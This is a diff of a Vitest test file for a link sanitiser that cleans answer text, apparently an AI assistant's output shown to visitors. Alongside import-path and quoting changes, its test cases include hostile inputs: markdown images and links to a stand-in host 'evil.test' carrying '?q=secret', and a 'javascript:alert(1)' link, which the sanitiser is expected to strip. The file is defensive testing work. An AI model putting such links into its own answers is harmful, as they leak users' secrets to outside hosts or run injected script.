@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
-import { AnswerText } from "../../src/models/answer-text.ts";
-import { KnownLinks } from "../../src/models/links.ts";
+import { AnswerText } from "../../src/models/language/answer-text.ts";
+import { KnownLinks } from "../../src/models/language/links.ts";
 
 const KNOWN = ["See https://acme.test/help/ and (https://acme.test/a_(b)), or ask at www.acme.test.", "https://cdn.acme.test/logo.png?v=2"];
 
@@ -73,7 +73,7 @@ describe("what a visitor reads", () => {
 describe("links", () => {
   it.each([
     "[Help](https://acme.test/help)",
-    "[Help](https://acme.test/help/ \"Our help\")",
+    '[Help](https://acme.test/help/ "Our help")',
     "![Logo](https://cdn.acme.test/logo.png?v=2)",
     "See https://acme.test/help.",
     "(https://acme.test/a_(b))",
@@ -86,7 +86,7 @@ describe("links", () => {
   it.each([
     ["![x](https://evil.test/?q=secret)", "x"],
     ["![](https://evil.test/?q=secret)", ""],
-    ["A [click](https://evil.test/a(b)c?q=secret \"t\") B", "A click B"],
+    ['A [click](https://evil.test/a(b)c?q=secret "t") B', "A click B"],
     ["[a](//evil.test/x)", "a"],
     ["[a](javascript:alert(1))", "a"],
     ["[a](<https://evil.test/x>)", "a"],
